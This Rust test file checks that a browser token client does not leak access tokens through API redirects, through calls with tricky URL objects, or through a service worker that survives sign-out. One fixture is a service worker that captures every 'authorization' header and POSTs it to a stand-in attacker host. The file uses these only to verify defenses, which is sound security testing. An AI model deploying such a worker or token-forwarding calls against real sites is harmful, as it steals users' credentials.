//! Tokens that are sent elsewhere.

use tokencast_threats::{Engine, Plan, Served, Stage, scripts};
use tokencast_webviews::{View, run, until};

/// 1. An API of the app answers with a redirect to a stranger.
/// 2. The naive client has its token in a header of its own, which browsers carry along.
pub(crate) async fn an_api_that_redirects_to_a_stranger_takes_no_token_there<E: Engine>() {
    let plan = Plan::default().profile(|profile, app| profile.with_resource_origin(&app.origin).unwrap());
    let stage: Stage<E> = plan.open().await;
    let token = stage.token().await;
    stage
        .app
        .put("/", Served::html(scripts::app_page(&[&stage.app.origin])));
    for thief in [&stage.evil, &stage.foreign] {
        stage
            .app
            .put("/api/moved", Served::redirect(&thief.url("/moved")));
        let control = stage.engine.bare().await;
        stage.visit(&control, &stage.app.url("/silent")).await;
        let call = format!("await fetch('/api/moved', {{ headers: {{ 'x-access-token': '{token}' }} }})");
        run(&control, &call).await;
        assert!(
            thief.until_seen("/moved", 1).await[0].holds(&token),
            "it must fall"
        );
        thief.forget();
        stage.app.forget();

        let view = stage.active(&stage.app).await;
        // Some engines end such a call, others go on without the token.
        for call in ["", ", { method: 'POST', body: 'x' }"] {
            let call = format!("await session.fetch('/api/moved'{call}).catch(() => {{}})");
            run(&view, &call).await;
        }
        run(&view, &format!("await fetch({:?})", thief.url("/after"))).await;
        let asked = stage.app.seen_at("/api/moved");
        assert!(
            asked.len() == 2 && asked.iter().all(|seen| seen.holds(&token)),
            "the API is sent it"
        );
        thief.until_seen("/after", 1).await;
        assert!(!thief.knows(&token));
        stage.app.forget();
    }
}

/// 1. The page's own code is talked into calling a stranger through the client, by address, by `Request`, and by an object that
///    says one address when it is looked at and another when it is called.
/// 2. The naive client looks at the text.
pub(crate) async fn a_call_to_a_stranger_through_the_client_carries_no_token<E: Engine>() {
    let stage = Stage::<E>::open().await;
    let token = stage.token().await;
    let api = stage.rig.server.url();
    let turncoat = |thief: &str| {
        format!("{{ asked: 0, toString() {{ return this.asked++ ? {thief:?} : {api:?} + '/api/me' }} }}")
    };
    for thief in [&stage.evil, &stage.foreign] {
        let target = thief.url("/called");
        let control = stage.engine.bare().await;
        stage.visit(&control, &stage.app.url("/silent")).await;
        let naive = format!(
            "const naive = (url) => fetch(url, {{ headers: String(url).startsWith({api:?}) ? {{ authorization: 'Bearer {token}' }} : {{}} }});
            await naive({})",
            turncoat(&target)
        );
        run(&control, &naive).await;
        assert!(
            thief.until_seen("/called", 1).await[0].holds(&token),
            "it must fall"
        );
        thief.forget();

        let view = stage.active(&stage.app).await;
        for call in [
            format!("session.fetch({target:?})"),
            format!("session.fetch(new Request({target:?}, {{ method: 'POST', body: 'x' }}))"),
            format!("session.fetch(new URL({target:?}))"),
            format!("session.fetch({:?})", target.replace("http://", "//")),
            format!("session.fetch({})", turncoat(&target)),
            format!("session.fetch({target:?}, {{ mode: 'no-cors' }})"),
        ] {
            let _ = run(&view, &format!("await ({call}).catch(() => {{}})")).await;
        }
        thief.until_seen("/called", 5).await;
        assert!(!thief.knows(&token));
        assert_eq!(stage.status(&view).await, 200);
    }
}

/// 1. Somebody got a service worker into the app's origin, once. It sends away every token that comes past.
/// 2. The user signs out, and later in again. In the naive app it is still there. Here it was cleared away with the session.
pub(crate) async fn a_service_worker_does_not_outlive_the_session<E: Engine>() {
    let plan = Plan::default().profile(|profile, app| profile.with_resource_origin(&app.origin).unwrap());
    let stage: Stage<E> = plan.open().await;
    let worker = format!(
        "addEventListener('install', () => skipWaiting());
        addEventListener('activate', (event) => event.waitUntil(clients.claim()));
        addEventListener('fetch', ({{ request }}) => {{
          const token = request.headers.get('authorization');
          if (token) fetch('{}', {{ method: 'POST', mode: 'no-cors', body: token }});
        }});",
        stage.evil.url("/stolen")
    );
    stage
        .app
        .put("/", Served::html(scripts::app_page(&[&stage.app.origin])));
    stage.app.put("/worker.js", Served::script(worker));
    let registers = "await navigator.serviceWorker.register('/worker.js');
        await navigator.serviceWorker.ready;
        while (!navigator.serviceWorker.controller) await new Promise((later) => setTimeout(later, 10));
        return true";
    let calls = "return (await session.fetch('/api/data')).status";
    let view = stage.active(&stage.app).await;
    assert_eq!(run(&view, registers).await, true);
    // So far a worker is a hostile script of an allowed origin, which gets the access token where the host lets it see calls.
    run(&view, calls).await;

    // The control: a view that nobody cleans.
    let control = stage.engine.bare().await;
    stage.visit(&control, &stage.app.url("/silent")).await;
    assert_eq!(run(&control, registers).await, true);
    stage.visit(&control, &stage.app.url("/silent?later")).await;
    run(
        &control,
        "await fetch('/api/data', { headers: { authorization: 'Bearer of-the-next-session' } })",
    )
    .await;
    // The worker of the first page may have sent its token there too.
    stage.evil.until_known("of-the-next-session").await;
    stage.evil.forget();

    stage.session.sign_out().await.unwrap();
    until(&view, "return session.state === 'ended'").await;
    // Until then it was there.
    until(
        &view,
        "return (await navigator.serviceWorker.getRegistrations()).length === 0",
    )
    .await;
    stage.session.sign_in(tokencast_testkit::ada()).await.unwrap();
    View::go(&view, &stage.app.url("/")).await;
    stage.until_current(&view).await;
    assert_eq!(
        run(&view, "return navigator.serviceWorker.controller === null").await,
        true
    );
    stage.app.forget();
    run(&view, calls).await;
    let second = stage.token().await;
    assert!(
        stage.app.until_seen("/api/data", 1).await[0].holds(&second),
        "the call carries it"
    );
    let probe = format!(
        "await fetch('{}', {{ mode: 'no-cors' }})",
        stage.evil.url("/probe")
    );
    run(&view, &probe).await;
    stage.evil.until_seen("/probe", 1).await;
    assert!(!stage.evil.knows(&second));
}
